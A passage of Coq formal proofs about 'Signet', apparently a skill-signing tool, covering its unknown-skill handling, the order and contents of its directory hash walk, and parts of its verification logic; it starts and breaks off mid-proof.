      * split; [intros [X | []]; discriminate | intros [_ X]; discriminate].
    + split; auto.
    + split; [intros [X | []]; discriminate | intros [X _]; discriminate].
    + split; [intros [] | intros [X _]; discriminate].
  - rewrite SignetFacts.changes_eq.
    apply SignetFacts.changes_sorted_aux, SignetFacts.all_paths_strict.
Qed.


Definition demo_skill : Signet.node :=
  Signet.Dir [ ("SKILL.md", Signet.File (Some "# demo"));
               ("run.py", Signet.File (Some "print(1)")) ].

Definition unsigned_workspace : Signet.workspace :=
  {| Signet.skills_dir := Some (Signet.Dir [("demo", demo_skill)]);
     Signet.manifest_json := Signet.Absent |}.


(** X14.  [cmd_sign] for a skill name that no installed skill has prints
    that the skill was not found, returns 1 and leaves the workspace,
    manifest included, as it was. *)
Theorem sign_unknown_skill clock ws name found :
  Signet.find_skills ws = Ok found ->
  name <> "" ->
  (forall s, In s found -> fst s <> name) ->
  Signet.cmd_sign clock ws (Some name)
  = Ok (ws, [Signet.SKILL_NOT_FOUND name], 1).
Proof.
  intros F Hn Hfound. unfold Signet.cmd_sign. rewrite F. simpl.
  assert (T : Signet.truthy name = true).
  { unfold Signet.truthy. apply negb_true_iff, String.eqb_neq, Hn. }
  unfold Signet.select_skill, Signet.skill_name_given, Signet.truthy_opt.
  rewrite T.
  assert (E : List.filter (fun s : string * Signet.node =>
                             String.eqb (fst s) name) found = []).
  { clear F. induction found as [|s found IH]; [reflexivity|]. simpl.
    destruct (String.eqb_spec (fst s) name) as [E|_].
    - exfalso. apply (Hfound s); [left; reflexivity | exact E].
    - apply IH. intros s' Hs'. apply Hfound. right. exact Hs'. }
  rewrite E. reflexivity.
Qed.

Lemma sign_unknown_skill_witness :
  Signet.cmd_sign (fun _ => "2026-01-01T00:00:00+00:00") unsigned_workspace
    (Some "other")
  = Ok (unsigned_workspace, [Signet.SKILL_NOT_FOUND "other"], 1).
Proof.
  apply (sign_unknown_skill _ unsigned_workspace "other"
           [("demo", demo_skill)]).
  - vm_compute; reflexivity.
  - discriminate.
  - intros s [<- | []]. discriminate.
Defined.

(* ===================================================================== *)
(** ** The walk of [skill_hash]                                           *)
(* ===================================================================== *)

Module WalkFacts.
Import Signet Tree.

(** Induction on trees, with the hypothesis for every entry of a
    directory. *)
Definition node_ind' (P : node -> Prop)
  (HF : forall c, P (File c))
  (HD : forall es, Forall (fun e => P (snd e)) es -> P (Dir es))
  : forall n, P n :=
  fix IH (n : node) : P n :=
    match n with
    | File c => HF c
    | Dir es =>
        HD es
          ((fix go (es : list (string * node))
              : Forall (fun e => P (snd e)) es :=
              match es with
              | [] => @List.Forall_nil _ _
              | e :: es' => @List.Forall_cons _ _ e es' (IH (snd e)) (go es')
              end) es)
    end.

(** *** Looking names up *)

Lemma lookup_cons {A} name (k : string) (v : A) es :
  lookup_entry name ((k, v) :: es)
  = if String.eqb k name then Some v else lookup_entry name es.
Proof.
  unfold lookup_entry, Dict.get. simpl.
  destruct (String.eqb k name); reflexivity.
Qed.

Lemma lookup_in {A} name (es : list (string * A)) x :
  lookup_entry name es = Some x -> In (name, x) es.
Proof.
  induction es as [|[k v] es IH]; [discriminate|].
  rewrite lookup_cons. destruct (String.eqb_spec k name) as [->|_].
  - intros E. inversion E; subst. left. reflexivity.
  - intros E. right. apply IH, E.
Qed.

Lemma in_lookup {A} name (es : list (string * A)) x :
  List.NoDup (map fst es) -> In (name, x) es -> lookup_entry name es = Some x.
Proof.
  induction es as [|[k v] es IH]; [intros _ []|].
  simpl. intros ND [E | Hin]; rewrite lookup_cons.
  - inversion E; subst. rewrite String.eqb_refl. reflexivity.
  - inversion ND as [|? ? Hnin ND']; subst.
    destruct (String.eqb_spec k name) as [->|_].
    + exfalso. apply Hnin. apply in_map_iff. exists (name, x). auto.
    + apply IH; assumption.
Qed.

(** *** The two loops of one directory *)

Definition filenames (es : list (string * node)) : list string :=
  map fst (List.filter (fun e => negb (is_dir (snd e))) es).

Definition walk_dirs (es : list (string * node)) : list string :=
  sorted (List.filter (fun d => negb (in_list d SKIP_DIRS))
            (map fst (List.filter (fun e => is_dir (snd e)) es))).

Definition file_step (root : list string) (es : list (string * node))
  (fname : string) : list (list string * string) :=
  match lookup_entry fname es with
  | Some (File (Some content)) =>
      [(root ++ [fname], Sha256.hexdigest content)]
  | _ => []
  end.

Definition dir_step (root : list string) (es : list (string * node))
  (d : string) : list (list string * string) :=
  match lookup_entry d es with
  | Some child => walk (root ++ [d]) child
  | None => []
  end.

Lemma lookup_below root (es : list (string * node)) d :
  lookup_entry d
    ((fix go (es : list (string * node)) :=
        match es with
        | [] => []
        | (name, child) :: es' =>
            (name, walk (root ++ [name]) child) :: go es'
        end) es)
  = option_map (walk (root ++ [d])) (lookup_entry d es).
Proof.
  induction es as [|[name child] es IH]; [reflexivity|].
  rewrite !lookup_cons. destruct (String.eqb_spec name d) as [->|_].
  - reflexivity.
  - exact IH.
Qed.

Lemma walk_dir root es :
  walk root (Dir es)
  = flat_map (file_step root es) (sorted (filenames es))
    ++ flat_map (dir_step root es) (walk_dirs es).
Proof.
  cbn [walk]. f_equal.
  - apply flat_map_ext. intros fname. unfold file_step.
    destruct (lookup_entry fname es) as [[[content|]|]|]; try reflexivity.
    unfold file_hash. rewrite ShaFacts.hexdigest_truthy. reflexivity.
  - apply flat_map_ext. intros d. unfold dir_step.
    rewrite lookup_below. destruct (lookup_entry d es); reflexivity.
Qed.

Lemma in_filenames es name :
  In name (filenames es) <-> exists c, In (name, File c) es.
Proof.
  unfold filenames. rewrite in_map_iff. split.
  - intros [[k v] [E Hin]]. simpl in E. subst k.
    apply filter_In in Hin. destruct Hin as [Hin Hd].
    destruct v as [c|sub]; [eauto | discriminate Hd].
  - intros [c Hin]. exists (name, File c). split; [reflexivity|].
    apply filter_In. auto.
Qed.

Lemma in_walk_dirs es d :
  In d (walk_dirs es)
  <-> in_list d SKIP_DIRS = false /\ exists sub, In (d, Dir sub) es.
Proof.
  unfold walk_dirs. rewrite StrOrder.in_sorted, filter_In, in_map_iff.
  split.
  - intros [[[k v] [E Hin]] Hs]. simpl in E. subst k.
    apply filter_In in Hin. destruct Hin as [Hin Hd].
    apply negb_true_iff in Hs. split; [exact Hs|].
    destruct v as [c|sub]; [discriminate Hd | eauto].
  - intros [Hs [sub Hin]]. split.
    + exists (d, Dir sub). split; [reflexivity|]. apply filter_In. auto.
    + rewrite Hs. reflexivity.
Qed.

(** *** Which files the walk reaches *)

Lemma skipped_cons d a p :
  skipped (d :: a :: p) = in_list d SKIP_DIRS || skipped (a :: p).
Proof. reflexivity. Qed.

Lemma file_at_nil n : file_at n [] = None.
Proof. destruct n; reflexivity. Qed.

Lemma file_at_file c p : file_at (File c) p = None.
Proof. destruct p; reflexivity. Qed.

Lemma file_at_single es name :
  file_at (Dir es) [name]
  = match lookup_entry name es with
    | Some (File c) => Some c
    | _ => None
    end.
Proof.
  simpl. destruct (lookup_entry name es) as [[c|sub]|]; reflexivity.
Qed.

Lemma file_at_cons es d a p :
  file_at (Dir es) (d :: a :: p)
  = match lookup_entry d es with
    | Some child => file_at child (a :: p)
    | None => None
    end.
Proof.
  cbn [file_at]. destruct (lookup_entry d es) as [[c|sub]|]; reflexivity.
Qed.

(** The walk reaches exactly the readable files that no skipped directory
    hides, and pairs each with the digest of its content. *)
Lemma in_walk n :
  forall root q h,
    In (q, h) (walk root n)
    <-> exists p c, q = root ++ p /\ skipped p = false
                    /\ file_at n p = Some (Some c)
                    /\ h = Sha256.hexdigest c.
Proof.
  induction n as [c0|es IH] using node_ind'; intros root q h.
  - simpl. split; [intros []|].
    intros [p [c [_ [_ [F _]]]]]. rewrite file_at_file in F. discriminate.
  - rewrite List.Forall_forall in IH.
    rewrite walk_dir, in_app_iff, !in_flat_map. split.
    + intros [[fname [_ Hf]] | [d [Hd Hf]]].
      * unfold file_step in Hf.
        destruct (lookup_entry fname es) as [[[content|]|]|] eqn:L;
          try contradiction.
        destruct Hf as [E | []]. inversion E; subst.
        exists [fname], content. rewrite file_at_single, L. auto.
      * unfold dir_step in Hf.
        destruct (lookup_entry d es) as [child|] eqn:L; [|contradiction].
        apply (IH (d, child) (lookup_in _ _ _ L)) in Hf.
        destruct Hf as [p' [c [-> [Hs [F ->]]]]].
        destruct p' as [|a p']; [rewrite file_at_nil in F; discriminate|].
        exists (d :: a :: p'), c.
        apply in_walk_dirs in Hd. destruct Hd as [Hd _].
        rewrite skipped_cons, Hd, Hs, file_at_cons, L, <- app_assoc.
        auto.
    + intros [p [c [-> [Hs [F ->]]]]].
      destruct p as [|d [|a p]].
      * rewrite file_at_nil in F. discriminate.
      * left. exists d. rewrite file_at_single in F.
        destruct (lookup_entry d es) as [[content|sub]|] eqn:L;
          try discriminate.
        inversion F; subst. split.
        -- apply StrOrder.in_sorted, in_filenames.
           exists (Some c). apply lookup_in, L.
        -- unfold file_step. rewrite L. left. reflexivity.
      * right. exists d. rewrite file_at_cons in F.
        destruct (lookup_entry d es) as [child|] eqn:L; [|discriminate].
        rewrite skipped_cons in Hs. apply orb_false_iff in Hs.
        destruct Hs as [Hd Hs]. split.
        -- apply in_walk_dirs. split; [exact Hd|].
           destruct child as [c1|sub];
             [rewrite file_at_file in F; discriminate|].
           exists sub. apply lookup_in, L.
        -- unfold dir_step. rewrite L.
           apply (IH (d, child) (lookup_in _ _ _ L)).
           exists (a :: p), c. rewrite <- app_assoc. auto.
Qed.

(** *** The order of the walk *)

Definition prefix (root : list string) (e : list string * string)
  : list string * string := (root ++ fst e, snd e).

(** Walking below [root] is walking from the top, with [root] put in front
    of every path. *)
Lemma walk_prefix n :
  forall root, walk root n = map (prefix root) (walk [] n).
Proof.
  induction n as [c0|es IH] using node_ind'; intros root; [reflexivity|].
  rewrite List.Forall_forall in IH.
  rewrite !walk_dir, List.map_app, !List.flat_map_concat_map,
    !List.concat_map, !List.map_map.
  f_equal; f_equal; apply List.map_ext_in; intros x Hx.
  - unfold file_step.
    destruct (lookup_entry x es) as [[[content|]|]|]; reflexivity.
  - unfold dir_step.
    destruct (lookup_entry x es) as [child|] eqn:L; [|reflexivity].
    pose proof (IH (x, child) (lookup_in _ _ _ L)) as IHc. simpl in IHc.
    rewrite (IHc (root ++ [x])), (IHc ([] ++ [x])), List.map_map.
    apply List.map_ext. intros [p h]. unfold prefix. simpl.
    rewrite <- app_assoc. reflexivity.
Qed.

Lemma walk_lt_asym p q : walk_lt p q -> walk_lt q p -> False.
Proof.
  revert q. induction p as [|d p IH]; intros q; [intros []|].
  destruct q as [|e q]; [intros []|].
  simpl. destruct p as [|a p], q as [|b q].
  - apply StrOrder.lt_asym.
  - intros _ [].
  - intros [].
  - intros [H1 | [-> H1]] [H2 | [E2 H2]].
    + exact (StrOrder.lt_asym _ _ H1 H2).
    + subst. exact (StrOrder.lt_irrefl _ H1).
    + exact (StrOrder.lt_irrefl _ H2).
    + exact (IH _ H1 H2).
Qed.

Definition by_path (a b : list string * string) : Prop :=
  walk_lt (fst a) (fst b).

(** A list made of sorted pieces, the pieces in the order of their
    keys. *)
Lemma sorted_flat_map {K A} (S : K -> K -> Prop) (R : A -> A -> Prop)
  (g : K -> list A) (ks : list K) :
  StronglySorted S ks ->
  (forall k, In k ks -> StronglySorted R (g k)) ->
  (forall k1 k2 a b, S k1 k2 -> In a (g k1) -> In b (g k2) -> R a b) ->
  StronglySorted R (flat_map g ks).
Proof.
  intros HS Hin Hcross. induction HS as [|k ks HS IH Hk]; simpl.
  - constructor.
  - apply StronglySorted_app_2.
    + intros a b Ha Hb. apply list_elem_of_In in Ha, Hb.
      apply in_flat_map in Hb. destruct Hb as [k2 [Hk2 Hb]].
      rewrite List.Forall_forall in Hk.
      exact (Hcross k k2 a b (Hk k2 Hk2) Ha Hb).
    + apply Hin. left. reflexivity.
    + apply IH. intros k' Hk'. apply Hin. right. exact Hk'.
Qed.

Lemma unique_names_dir es :
  unique_names (Dir es)
  <-> List.NoDup (map fst es)
      /\ (forall name child, In (name, child) es -> unique_names child).
Proof.
  cbn [unique_names]. split; intros [ND H]; (split; [exact ND|]); clear ND.
  - induction es as [|[k v] es IH]; [intros ? ? []|].
    destruct H as [Hv Hes]. intros name child [E | Hin].
    + inversion E; subst. exact Hv.
    + exact (IH Hes name child Hin).
  - induction es as [|[k v] es IH]; [exact I|]. split.
    + apply (H k v). left. reflexivity.
    + apply IH. intros name child Hin. apply (H name child). right.
      exact Hin.
Qed.

Lemma NoDup_map_filter {A B} (f : A -> B) (P : A -> bool) l :
  List.NoDup (map f l) -> List.NoDup (map f (List.filter P l)).
Proof.
  induction l as [|x l IH]; [intros _; constructor|].
  simpl. intros ND. inversion ND as [|? ? Hnin ND']; subst.
  destruct (P x); [|apply IH, ND'].
  simpl. constructor; [|apply IH, ND'].
  intros Hin. apply Hnin. apply in_map_iff in Hin.
  destruct Hin as [y [E Hy]]. apply filter_In in Hy.
  apply in_map_iff. exists y. tauto.
Qed.

Lemma walk_nonempty n q h : In (q, h) (walk [] n) -> q <> [].
Proof.
  intros H. apply in_walk in H. destruct H as [p [c [E [_ [F _]]]]].
  simpl in E. subst q. intros ->. rewrite file_at_nil in F. discriminate.
Qed.

(** In a tree without repeated names the walk ascends strictly in
    [walk_lt]. *)
Lemma walk_sorted n :
  unique_names n -> StronglySorted by_path (walk [] n).
Proof.
  induction n as [c0|es IH] using node_ind'; intros U; [constructor|].
  rewrite List.Forall_forall in IH.
  apply unique_names_dir in U. destruct U as [ND U].
  rewrite walk_dir. apply StronglySorted_app_2.
  - intros a b Ha Hb. apply list_elem_of_In in Ha, Hb.
    apply in_flat_map in Ha, Hb.
    destruct Ha as [f [_ Ha]]. destruct Hb as [d [_ Hb]].
    unfold file_step in Ha.
    destruct (lookup_entry f es) as [[[content|]|]|]; try contradiction.
    destruct Ha as [<- | []].
    unfold dir_step in Hb.
    destruct (lookup_entry d es) as [child|]; [|contradiction].
    rewrite walk_prefix in Hb. apply in_map_iff in Hb.
    destruct Hb as [[q h] [<- Hq]]. apply walk_nonempty in Hq.
    unfold by_path, prefix. simpl. destruct q; [contradiction | exact I].
  - apply (sorted_flat_map str_lt).
    + apply StrOrder.sorted_strict. unfold filenames.
      apply NoDup_map_filter, ND.
    + intros f _. unfold file_step.
      destruct (lookup_entry f es) as [[[content|]|]|];
        repeat constructor.
    + intros f1 f2 a b Hlt Ha Hb. unfold file_step in Ha, Hb.
      destruct (lookup_entry f1 es) as [[[c1|]|]|]; try contradiction.
      destruct (lookup_entry f2 es) as [[[c2|]|]|]; try contradiction.
      destruct Ha as [<- | []]. destruct Hb as [<- | []]. exact Hlt.
  - apply (sorted_flat_map str_lt).
    + apply StrOrder.sorted_strict.
      apply List.NoDup_filter. apply NoDup_map_filter, ND.
    + intros d _. unfold dir_step.
      destruct (lookup_entry d es) as [child|] eqn:L; [|constructor].
      pose proof (lookup_in _ _ _ L) as Hin.
      specialize (IH (d, child) Hin (U d child Hin)).
      rewrite walk_prefix.
      assert (NE : Forall (fun e => fst e <> []) (walk [] child)).
      { apply List.Forall_forall. intros [q h] Hq.
        eapply walk_nonempty. exact Hq. }
      simpl in IH. induction IH as [|e l S IHl He]; [constructor|].
      inversion NE as [|? ? Ne NE']; subst. simpl. constructor.
      * apply IHl, NE'.
      * rewrite List.Forall_forall in *. intros b Hb.
        apply in_map_iff in Hb. destruct Hb as [e' [<- He']].
        unfold by_path, prefix. simpl.
        specialize (He e' He'). specialize (NE' e' He').
        unfold by_path in He.
        destruct (fst e); [contradiction|].
        destruct (fst e'); [contradiction|]. right. auto.
    + intros d1 d2 a b Hlt Ha Hb. unfold dir_step in Ha, Hb.
      destruct (lookup_entry d1 es) as [c1|]; [|contradiction].
      destruct (lookup_entry d2 es) as [c2|]; [|contradiction].
      rewrite walk_prefix in Ha, Hb. apply in_map_iff in Ha, Hb.
      destruct Ha as [[p h] [<- Hp]]. destruct Hb as [[q h'] [<- Hq]].
      apply walk_nonempty in Hp, Hq.
      unfold by_path, prefix. simpl.
      destruct p; [contradiction|]. destruct q; [contradiction|].
      left. exact Hlt.
Qed.

End WalkFacts.

(* ===================================================================== *)
(** ** What [skill_hash] records and what it depends on                   *)
(* ===================================================================== *)

Module HashFacts.
Import Signet Tree WalkFacts.

Definition record (m : gmap string string) (e : list string * string)
  : gmap string string := <[path_str (fst e) := snd e]> m.

Lemma file_hashes_of_eq visited :
  file_hashes_of visited = fold_left record visited ∅.
Proof. reflexivity. Qed.

Lemma fold_record_lookup visited (m : gmap string string) s h :
  fold_left record visited m !! s = Some h ->
  m !! s = Some h
  \/ exists e, In e visited /\ path_str (fst e) = s /\ snd e = h.
Proof.
  revert m. induction visited as [|e visited IH]; intros m; simpl.
  - auto.
  - intros H. apply IH in H. destruct H as [H | [e' [Hin [E1 E2]]]].
    + unfold record in H.
      destruct (decide (path_str (fst e) = s)) as [E|NE].
      * subst s. rewrite lookup_insert_eq in H. inversion H; subst.
        right. exists e. auto.
      * rewrite lookup_insert_ne in H by exact NE. auto.
    + right. exists e'. auto.
Qed.

Lemma fold_record_keeps visited (m : gmap string string) s :
  is_Some (m !! s) -> is_Some (fold_left record visited m !! s).
Proof.
  revert m. induction visited as [|e visited IH]; intros m H; simpl.
  - exact H.
  - apply IH. unfold record.
    destruct (decide (path_str (fst e) = s)) as [E|NE].
    + subst s. rewrite lookup_insert_eq. eauto.
    + rewrite lookup_insert_ne by exact NE. exact H.
Qed.

Lemma fold_record_has visited (m : gmap string string) e :
  In e visited -> is_Some (fold_left record visited m !! path_str (fst e)).
Proof.
  revert m. induction visited as [|e' visited IH]; intros m; [intros []|].
  simpl. intros [-> | Hin].
  - apply fold_record_keeps. unfold record. rewrite lookup_insert_eq. eauto.
  - apply IH, Hin.
Qed.

Lemma strict_NoDup {A} (R : A -> A -> Prop) (l : list A) :
  (forall x, ~ R x x) -> StronglySorted R l -> List.NoDup l.
Proof.
  intros Irr. induction 1 as [|x l S IH Hx]; constructor; [|exact IH].
  intros Hin. rewrite List.Forall_forall in Hx.
  exact (Irr x (Hx x Hin)).
Qed.

Lemma by_path_irrefl e : ~ by_path e e.
Proof. intros H. exact (walk_lt_asym _ _ H H). Qed.

(** Two walks that reach the same files are the same list. *)
Lemma walk_unique t1 t2 :
  unique_names t1 -> unique_names t2 ->
  (forall e, In e (walk [] t1) <-> In e (walk [] t2)) ->
  walk [] t1 = walk [] t2.
Proof.
  intros U1 U2 Same.
  pose proof (walk_sorted t1 U1) as S1.
  pose proof (walk_sorted t2 U2) as S2.
  apply (StronglySorted_unique_strong by_path); [|exact S1|exact S2|].
  - intros x y _ _ H1 H2. exfalso. exact (walk_lt_asym _ _ H1 H2).
  - apply NoDup_Permutation.
    + apply NoDup_ListNoDup.
      exact (strict_NoDup by_path _ by_path_irrefl S1).
    + apply NoDup_ListNoDup.
      exact (strict_NoDup by_path _ by_path_irrefl S2).
    + intros x. rewrite !list_elem_of_In. apply Same.
Qed.

End HashFacts.

(** X15.  What [skill_hash] records.  Every entry of the file dict is the
    SHA-256 digest of a readable file of the skill whose path runs through
    no directory of [SKIP_DIRS]; every such file has an entry; the composite
    hash is the digest of the lines path:hash of the files in the order of
    the walk. *)
Theorem skill_hash_records skill_dir :
  (forall s h,
      snd (Signet.skill_hash skill_dir) !! s = Some h ->
      exists p c, s = Signet.path_str p /\ Tree.skipped p = false
                  /\ Tree.file_at skill_dir p = Some (Some c)
                  /\ h = Sha256.hexdigest c)
  /\ (forall p c,
        Tree.skipped p = false ->
        Tree.file_at skill_dir p = Some (Some c) ->
        is_Some (snd (Signet.skill_hash skill_dir) !! Signet.path_str p)
        /\ In (p, Sha256.hexdigest c) (Signet.walk [] skill_dir))
  /\ fst (Signet.skill_hash skill_dir)
     = Sha256.hexdigest
         (String.concat ""
            (map (fun e => (Signet.path_str (fst e) ++ ":" ++ snd e)%string)
                 (Signet.walk [] skill_dir))).
Proof.
  unfold Signet.skill_hash. cbn [fst snd]. split; [|split].
  - intros s h H. rewrite HashFacts.file_hashes_of_eq in H.
    apply HashFacts.fold_record_lookup in H.
    destruct H as [H | [[q h'] [Hin [E1 E2]]]].
    + rewrite lookup_empty in H. discriminate.
    + simpl in E1, E2. subst s h'.
      apply WalkFacts.in_walk in Hin.
      destruct Hin as [p [c [E [Hs [F Hh]]]]]. simpl in E. subst q.
      exists p, c. auto.
  - intros p c Hs F.
    assert (Hin : In (p, Sha256.hexdigest c) (Signet.walk [] skill_dir)).
    { apply WalkFacts.in_walk. exists p, c. auto. }
    split; [|exact Hin].
    rewrite HashFacts.file_hashes_of_eq.
    apply (HashFacts.fold_record_has _ ∅ (p, Sha256.hexdigest c) Hin).
  - reflexivity.
Qed.

(** X16.  The order of the walk.  In a tree in which no directory lists a
    name twice, [skill_hash] visits the files in strictly ascending
    [walk_lt] order: the files of a directory by name, then the content of
    its subdirectories by name of the subdirectory; so no path is visited
    twice. *)
Theorem walk_order skill_dir :
  Tree.unique_names skill_dir ->
  StronglySorted Tree.walk_lt (map fst (Signet.walk [] skill_dir))
  /\ List.NoDup (map fst (Signet.walk [] skill_dir)).
Proof.
  intros U. pose proof (WalkFacts.walk_sorted skill_dir U) as S.
  assert (S' : StronglySorted Tree.walk_lt
                 (map fst (Signet.walk [] skill_dir))).
  { induction S as [|e l S IH He]; simpl; constructor; [exact IH|].
    rewrite List.Forall_forall in *. intros q Hq.
    apply in_map_iff in Hq. destruct Hq as [e' [<- He']].
    exact (He e' He'). }
  split; [exact S'|].
  apply (HashFacts.strict_NoDup Tree.walk_lt); [|exact S'].
  intros p H. exact (WalkFacts.walk_lt_asym _ _ H H).
Qed.

(** X17.  The hashes depend on the hashed files only.  Two trees without
    repeated names that hold the same readable files at the same paths
    outside skipped directories get the same composite hash and the same
    file dict, whatever the order in which their directories list their
    entries and whatever else they contain. *)
Theorem skill_hash_depends_on_files_only t1 t2 :
  Tree.unique_names t1 -> Tree.unique_names t2 ->
  (forall p c, Tree.skipped p = false ->
               (Tree.file_at t1 p = Some (Some c)
                <-> Tree.file_at t2 p = Some (Some c))) ->
  Signet.skill_hash t1 = Signet.skill_hash t2.
Proof.
  intros U1 U2 Same. unfold Signet.skill_hash.
  assert (E : Signet.walk [] t1 = Signet.walk [] t2).
  { apply HashFacts.walk_unique; [exact U1 | exact U2|].
    intros [q h]. rewrite !WalkFacts.in_walk.
    split; intros [p [c [Eq [Hs [F Hh]]]]]; exists p, c;
      repeat split; auto; apply (Same p c Hs); exact F. }
  rewrite E. reflexivity.
Qed.

Definition nested_skill : Signet.node :=
  Signet.Dir [ ("z.txt", Signet.File (Some "z"));
               ("a", Signet.Dir [("b.txt", Signet.File (Some "b"))]) ].

(** The file at the top is visited before the one in the subdirectory,
    although a/b.txt sorts before z.txt as a string. *)
Lemma walk_order_witness :
  map fst (Signet.walk [] nested_skill) = [["z.txt"]; ["a"; "b.txt"]]
  /\ str_lt "a/b.txt" "z.txt"
  /\ StronglySorted Tree.walk_lt (map fst (Signet.walk [] nested_skill)).
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  assert (U : Tree.unique_names nested_skill).
  { cbn. repeat split; repeat constructor; cbn; intuition discriminate. }
  exact (proj1 (walk_order nested_skill U)).
Defined.

Definition listed_one_way : Signet.node :=
  Signet.Dir [ ("b.txt", Signet.File (Some "B"));
               ("a.txt", Signet.File (Some "A")) ].

Definition listed_another_way : Signet.node :=
  Signet.Dir [ (".git", Signet.Dir [("HEAD", Signet.File (Some "ref"))]);
               ("a.txt", Signet.File (Some "A"));
               ("b.txt", Signet.File (Some "B")) ].

Lemma skill_hash_depends_on_files_only_witness :
  Signet.skill_hash listed_one_way = Signet.skill_hash listed_another_way.
Proof.
  apply skill_hash_depends_on_files_only.
  - cbn. repeat split; repeat constructor; cbn; intuition discriminate.
  - cbn. repeat split; repeat constructor; cbn; intuition discriminate.
  - intros p c Hs. destruct p as [|x [|y p]].
    + reflexivity.
    + unfold listed_one_way, listed_another_way.
      rewrite !WalkFacts.file_at_single, !WalkFacts.lookup_cons.
      destruct (String.eqb_spec ".git" x) as [<-|_]; [simpl; tauto|].
      destruct (String.eqb_spec "a.txt" x) as [<-|_]; [simpl; tauto|].
      destruct (String.eqb_spec "b.txt" x) as [<-|_]; [simpl; tauto|].
      reflexivity.
    + unfold listed_one_way, listed_another_way.
      rewrite !WalkFacts.file_at_cons, !WalkFacts.lookup_cons.
      rewrite WalkFacts.skipped_cons in Hs.
      apply orb_false_iff in Hs. destruct Hs as [Hx _].
      destruct (String.eqb_spec ".git" x) as [<-|_];
        [vm_compute in Hx; discriminate Hx|].
      destruct (String.eqb_spec "a.txt" x) as [<-|_];
        [simpl; rewrite ?WalkFacts.file_at_file; tauto|].
      destruct (String.eqb_spec "b.txt" x) as [<-|_];
        [simpl; rewrite ?WalkFacts.file_at_file; tauto|].
      reflexivity.
Defined.

(* ===================================================================== *)
(** ** Signing and verifying                                              *)
(* ===================================================================== *)

Module DictFacts.






End DictFacts.

Module RoundTrip.
Import Signet.


(** What [find_skills] returns is what the names name in the skills
    directory. *)
Lemma find_skills_lookup ws found name node :
  find_skills ws = Ok found -> In (name, node) found ->
  exists entries sub,
    skills_dir ws = Some (Dir entries)
    /\ node = Dir sub
    /\ lookup_entry name entries = Some node
    /\ in_list name SELF_SKILL_DIRS = false
    /\ PyStr.startswith name ".quarantine" = false
    /\ is_Some (lookup_entry "SKILL.md" sub).
Proof.
  unfold find_skills.
  destruct (skills_dir ws) as [[c|entries]|]; try discriminate.
  - intros E Hin. inversion E; subst found. clear E.
    apply in_flat_map in Hin. destruct Hin as [k [_ Hin]].
    destruct (lookup_entry k entries) as [[c|sub]|] eqn:L;
      try (simpl in Hin; contradiction).
    destruct (_ || _) eqn:S1 in Hin; [simpl in Hin; contradiction|].
    change (in_list k SELF_SKILL_DIRS = false) in S1.
    destruct (PyStr.startswith k ".quarantine") eqn:S2;
      [simpl in Hin; contradiction|].
    destruct (lookup_entry "SKILL.md" sub) eqn:S3;
      [|simpl in Hin; contradiction].
    destruct Hin as [E | []]. inversion E; subst.
    exists entries, sub. rewrite S3. eauto 10.
  - intros E Hin. inversion E; subst. simpl in Hin. contradiction.
Qed.







End RoundTrip.




(* ===================================================================== *)
(** ** More on [cmd_verify] and [find_skills]                             *)
(* ===================================================================== *)

Module VerifyFacts.
Import Signet.

Lemma flat_map_single {A B} (g : A -> list B) (l : list A) (s : A) :
  List.NoDup l -> In s l -> (forall q, q <> s -> g q = []) ->
  flat_map g l = g s.
Proof.
  induction l as [|x l IH]; [intros _ []|].
  intros ND Hin Hg. inversion ND as [|? ? Hnin ND']; subst. simpl.
  destruct Hin as [-> | Hin].
  - assert (E : flat_map g l = []).
    { clear IH ND ND'. induction l as [|y l IHl]; [reflexivity|]. simpl.
      rewrite (Hg y), IHl; [reflexivity| |].
      - intros H. apply Hnin. right. exact H.
      - intros ->. apply Hnin. left. reflexivity. }
    rewrite E, app_nil_r. reflexivity.
  - rewrite (Hg x), (IH ND' Hin Hg); [reflexivity|].
    intros ->. contradiction.
Qed.

(** A loop that appends at most one item per key keeps the keys in their
    order. *)
Lemma sorted_selection {K B} (R : K -> K -> Prop) (f : B -> K)
  (g : K -> list B) (ks : list K) :
  (forall k, g k = [] \/ exists x, g k = [x] /\ f x = k) ->
  StronglySorted R ks ->
  StronglySorted R (map f (flat_map g ks))
  /\ (forall k, In k (map f (flat_map g ks)) -> In k ks).
Proof.
  intros Hg. induction 1 as [|k ks S IH Hk]; simpl.
  - split; [constructor | intros k []].
  - destruct IH as [IH1 IH2].
    destruct (Hg k) as [-> | [x [-> <-]]]; simpl.
    + split; [exact IH1 | intros k' H'; right; apply IH2, H'].
    + split.
      * constructor; [exact IH1|].
        rewrite List.Forall_forall in *. intros k' H'. apply Hk, IH2, H'.
      * intros k' [<- | H']; [left; reflexivity | right; apply IH2, H'].
Qed.

Lemma check_removed_grows found names :
  forall st,
    (forall l, In l (printed st) ->
               In l (printed (fold_left (check_removed found) names st)))
    /\ (tampered st <> [] ->
        tampered (fold_left (check_removed found) names st) <> [])
    /\ unsigned (fold_left (check_removed found) names st) = unsigned st.
Proof.
  induction names as [|name names IH]; intros st; [simpl; auto|].
  cbn [fold_left]. destruct (IH (check_removed found st name)) as [P [T U]].
  unfold check_removed in *.
  destruct (negb _ && negb _); [|auto].
  cbn [printed tampered unsigned] in *. split; [|split].
  - intros l Hl. apply P, in_app_iff. left. exact Hl.
  - intros _. apply T. destruct (tampered st); discriminate.
  - exact U.
Qed.

Lemma check_removed_reports found names name :
  In name names ->
  (forall s, In s found -> fst s <> name) ->
  in_list name SELF_SKILL_DIRS = false ->
  forall st,
    In (MISSING name) (printed (fold_left (check_removed found) names st))
    /\ tampered (fold_left (check_removed found) names st) <> [].
Proof.
  intros Hin Hfound Hself.
  assert (X : existsb (fun s : string * node => String.eqb (fst s) name)
                found = false).
  { apply not_true_iff_false. intros H. apply existsb_exists in H.
    destruct H as [s [Hs E]]. apply String.eqb_eq in E.
    exact (Hfound s Hs E). }
  induction names as [|n names IH]; [destruct Hin|]. intros st.
  cbn [fold_left]. destruct Hin as [-> | Hin].
  - destruct (check_removed_grows found names (check_removed found st name))
      as [P [T _]].
    unfold check_removed in *. rewrite X, Hself in *.
    cbn [negb andb printed tampered] in *. split.
    + apply P, in_app_iff. right. left. reflexivity.
    + apply T. destruct (tampered st); discriminate.
  - apply (IH Hin).
Qed.

Definition skill_entry (entries : list (string * node)) (name : string)
  : list (string * node) :=
  match lookup_entry name entries with
  | Some (Dir sub) =>
      if in_list name SELF_SKILL_DIRS then []
      else if PyStr.startswith name ".quarantine" then []
      else match lookup_entry "SKILL.md" sub with
           | Some _ => [(name, Dir sub)]
           | None => []
           end
  | _ => []
  end.

Lemma find_skills_dir ws entries :
